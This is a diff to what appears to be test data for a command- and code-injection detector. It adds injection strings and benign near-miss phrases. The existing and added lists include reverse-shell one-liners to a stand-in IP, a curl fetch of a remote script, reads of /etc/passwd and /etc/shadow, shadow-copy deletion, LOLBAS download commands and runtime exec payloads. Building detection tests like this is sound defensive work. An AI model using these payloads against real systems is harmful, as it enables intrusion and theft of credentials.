@@ -64,7 +64,8 @@ COMMANDS = {
                    "ansible-console\n", "chef-client -t 1.1.1.1\n"],
     "unix": ["; cat /etc/passwd", "| id", "&& sleep 5", "; ping -c 10 127.0.0.1", "|curl http://x.example/a.sh",
              "; nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cat /etc/shadow",
-             "ls -la /", "() { :; }; /bin/bash -c id", "whoami", "; uname -a", "which nc"],
+             "ls -la /", "() { :; }; /bin/bash -c id", "whoami", "; uname -a", "which nc", "; ps aux", "|ps axjf",
+             "; ip addr", "&& ip r", "; ip -br link"],
     # cmdi16: shapes written from the dev split's misses
     "wider vocabulary": [";irb<<<1 2", ";lastlogin -u admin", ";rmt --version", ";ssh-copy-id user@server", ";top",
                          "x;uconv -f utf-8 -t utf-8 /etc/?asswd", "& sysinfo", "' tcpdump -i eth0"],
@@ -79,7 +80,7 @@ COMMANDS = {
     # assigned quoted, escaped or as a glob; `at` scheduling a job
     "noise": ["c$$at /et$$c/pas$$swd", "x;c$?at /et$_c/pas$!swd", "www.example.com;c$_at+/et$_c/pas$_swd",
               ";cat+/etc/passwd", "c4=\\ ;c3=t;c2=a;c1=c;$c1$c2$c3$c4/etc/passwd", ";at 2:00 \"echo test\"",
-              "| at now < /tmp/job"],
+              "| at now < /tmp/job", ";+id", "|+id", "&&+whoami", ";+cat+/e't'*/pa'?s'wd"],
     # CRS's unix-shell and Windows command words that are not English, PowerShell's cmdlets
     "crs words": [";rsync -a /etc/ x@10.0.0.9:", "|| bzip2 -d /tmp/x.bz2", "$(psql -c 'select 1')", ";iostat",
                   "& robocopy C:\\Users \\\\x\\s /E", "| VSSADMIN delete shadows /all /quiet",
@@ -90,14 +91,17 @@ COMMANDS = {
                   "`${BASH}`",
                   # CRS's evasion prefixes before a command: an assignment, an unset variable as a spacer, `!`, eval
                   ";A=1 ifconfig", ";A=1 cat /etc/passwd", "x;$a ifconfig", "x;$u cat /etc/passwd", ";! ifconfig",
-                  "x;eval ifconfig", "x;env -i nc -e /bin/sh 10.0.0.1 4444"],
+                  "x;eval ifconfig", "x;env -i nc -e /bin/sh 10.0.0.1 4444",
+                  # LOLBAS binaries (CRS 932370)
+                  "x;certoc -LoadDLL x.dll", "| wsl -e id", "& MpCmdRun -DownloadFile -url http://x/a -path c:\\a"],
     "split words": ["'i'p a", "/bin/ca't' /et*/passwd", '";\\n. shell nc 10.10.10.1 6666 -e sh\\n',
                     'reg add "HKLM\\System\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'],
 }
 COMMAND_NEAR_MISSES = [
     "R&D department network", "salt & type of pepper", "Tom & net profit 2024", "the dir command lists files",
     "Smartwatch Models & More", "hp|gen|top|women", "MMB|SC|C1|MakeMyBook", "cat food", "find a store near me",
-    "set up your account", "I type fast; echo chambers are bad", "Q&A: who are we?", "Rock & Roll",
+    "set up your account", "I type fast; echo chambers are bad", "2+2;+3", "notes; ip phone", "I use dotnet daily",
+    "ps: flux; ps wax", "one; ps relax", "Q&A: who are we?", "Rock & Roll",
     "dogs & cats", "id", "dir", "type", "sort=id", "ping pong", "sleep well", "print-ready.pdf",
     "my_script.sh", "run.bat", "R&B; soul", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
     "it's a 'ls' command", "A & B | C", "Use `git status` to check", "Pay $(price) now",
@@ -152,6 +156,9 @@ CODE_PAYLOADS = {
              # CRS 934100's indicators; Ruby's command runners
              "this.constructor.constructor('return process')()", "process.readFileSync('/etc/passwd')",
              "require.resolve('x')", "function(){return 1}", "Process.spawn('id')", "IO.popen('id')", "%x{id}"],
+    "runtime": ["subprocess.call(['id'])", "subprocess.check_output('id', shell=True)",
+                "new java.lang.ProcessBuilder(\"id\").start()", "Class.forName('java.lang.Runtime')",
+                "Runtime.getRuntime().exec(\"id\")"],
     "ssi": ['<!--#exec cmd="/bin/cat /etc/passwd"-->', "<!--#include virtual=\"/etc/passwd\"-->",
             '<!--#echo var="DOCUMENT_ROOT"-->', '<esi:include src="http://x.example/a"/>'],
     "template": ["{{7*7}}", "${7*7}", "{{7*'7'}}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{config.items()}}",
@@ -181,7 +188,8 @@ CODE_NEAR_MISSES = [
     "${count?c}", "${name?lower_case}", "${abc}",
     "htmlspecialchars() escapes markup", "Use json_encode() to", "strlen(s) in C", "sprintf(buf, x)",
     "the $_SERVER array", "data:image/png;base64,iVBORw0KGgo=", "f(x) 'a' (b)", "the new COM (port)",
-    "see {1} (below)", "a <? b", "an IO popen call", "a process readme",
+    "see {1} (below)", "a <? b", "an IO popen call", "a process readme", "the subprocess module's call()",
+    "java.lang is a package", "Class.forName(name) loads a class", "the Runtime class",
 ]
 
 
